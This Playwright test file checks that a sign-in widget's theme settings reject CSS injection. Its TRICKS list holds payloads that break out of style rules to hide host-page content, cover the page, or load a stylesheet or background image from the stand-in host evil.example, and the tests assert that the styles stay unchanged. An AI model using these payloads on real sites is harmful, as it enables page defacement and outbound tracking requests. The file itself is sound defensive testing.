import type { Page } from '@playwright/test';
import { expect, test } from '../../support/test';
import { EMAIL_CODE, emailField, shown } from '../../support/widget/widget';

const HTML = '<h1 id="host">The host’s own words</h1><div id="sign-in"></div>';
const TRICKS: [path: string, value: string][] = [
  ['colors.primary', 'red; } #host { display: none } .x {'],
  ['container.backgroundColor', 'red} #host{display:none'],
  ['buttons.primary.textColor', '#fff } @import "https://evil.example/x.css"; #host { display: none } .x {'],
  ['inputs.borderRadius', '4px; background-image: url(https://evil.example/typed)'],
  ['container.width', '400px; position: fixed; inset: 0'],
  ['fontFamily', 'Arial/**/}#host{display:none}'],
  ['inputs.textColor', 'red\\3b } #host { display: none }'],
  ['colors.secondary', 'rgb(0, 0, 0'],
  ['colors.error', '"red'],
];

/** Refused values are replaced by defaults; all others are used as given. */
const HONEST = { buttons: { secondary: { borderRadius: '2px' } } };

const looks = (page: Page) =>
  page.evaluate(() => {
    const part = (selector: string) => getComputedStyle(document.querySelector(selector) as Element);
    const { backgroundColor, position, width, borderRadius } = part('.pricerx-widget > div > div > div');
    const { color, borderTopLeftRadius, backgroundImage } = part('pricerx-auth input');
    const button = part('pricerx-auth form button');
    return {
      card: `${backgroundColor} ${position} ${borderRadius} ${width}`,
      input: `${color} ${borderTopLeftRadius} ${backgroundImage}`,
      button: `${button.color} ${button.backgroundColor} ${button.borderTopLeftRadius}`,
      font: button.fontFamily,
    };
  });

const stylesOf = (path: string, value: string): object =>
  path.split('.').reduceRight<unknown>((inner, key) => ({ [key]: inner }), value) as object;

test.describe('§3 Theme values with CSS injection', () => {
  for (const [path, value] of TRICKS) {
    test(`${path}: ${value} leaves the style unchanged and logs a warning`, async ({ site }) => {
      const { page: honest } = await site.visitWidget({ config: EMAIL_CODE, styles: HONEST }, { html: HTML });
      await shown(emailField(honest));

      const context = await site.newContext();
      const told = context.waitForEvent('console', (message) =>
        message.text().includes(`styles.${path} is "`),
      );
      const { page, requested } = await site.visitWidget(
        { config: EMAIL_CODE, styles: { ...HONEST, ...stylesOf(path, value) } },
        { html: HTML },
        context,
      );
      await shown(emailField(page));
      expect(await looks(page)).toEqual(await looks(honest));
      expect(await page.locator('#host').isVisible()).toBe(true);
      expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
      await told;
    });
  }

  test('valid values of every CSS form are applied', async ({ site }) => {
    const container = { backgroundColor: 'rgb(250 250 210 / 100%)', width: 'min(300px, 100%)' };
    const styles = { container, fontFamily: '"Comic Sans MS", \'Brush Script\', Größe, serif' };
    const { page } = await site.visitWidget({ config: EMAIL_CODE, styles }, { html: HTML });
    await shown(emailField(page));
    expect(await looks(page)).toMatchObject({
      card: expect.stringMatching(/^rgb\(250, 250, 210\) .* 300px$/) as unknown,
      font: '"Comic Sans MS", "Brush Script", Größe, serif',
    });
  });
});
